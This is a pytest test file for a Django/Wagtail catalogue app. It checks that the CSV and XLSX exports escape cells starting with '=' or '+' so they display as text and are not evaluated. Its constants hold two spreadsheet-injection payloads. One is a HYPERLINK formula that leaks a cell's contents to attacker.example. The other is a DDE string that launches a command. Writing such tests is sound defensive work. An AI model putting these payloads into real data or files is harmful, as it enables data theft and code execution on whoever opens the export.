"""Spreadsheet exports never let a cell act as a formula: our own and Wagtail's (index views, reports)."""

import csv
import io

from django.urls import reverse

import pytest
from openpyxl import load_workbook

from catalogue.factories import CategoryFactory, ProgramFactory, UserFactory
from catalogue.textbooks.factories import TextbookFactory
from catalogue.wagtail_hooks import program_viewset
from cms.users.roles import ADMINISTRATORS

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"点击")'
DDE = "+cmd|' /C calc'!A0"


@pytest.fixture
def admin_client(client):
    client.force_login(UserFactory(groups=[ADMINISTRATORS], is_superuser=True))
    return client


def csv_rows(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_program_export_writes_formula_text_as_text(admin_client):
    category = CategoryFactory(code="01")
    ProgramFactory(category=category, code="0101", name=FORMULA)
    ProgramFactory(category=category, code="0102", name=DDE)
    index = reverse(program_viewset.get_url_name("index"))

    cells = [cell for row in csv_rows(admin_client.get(index, {"export": "csv"})) for cell in row]
    assert "'" + FORMULA in cells and "'" + DDE in cells
    assert not any(cell.startswith(("=", "+")) for cell in cells)

    sheet = load_workbook(io.BytesIO(admin_client.get(index, {"export": "xlsx"}).getvalue())).active
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value]
    formula_cells = [cell for cell in values if str(cell.value).lstrip("'") in (FORMULA, DDE)]
    assert len(formula_cells) == 2 and all(
        c.data_type == "s" and c.value.startswith("'") for c in formula_cells
    )


def test_the_site_history_export_writes_a_publishers_formula_title_as_text(admin_client):
    textbook = TextbookFactory(title=FORMULA)
    textbook.save_revision(log_action=True)

    rows = csv_rows(admin_client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"}))

    cells = [cell for row in rows[1:] for cell in row]
    assert any(cell.startswith("'" + FORMULA[:10]) for cell in cells), rows
    assert not any(cell.startswith("=") for cell in cells)
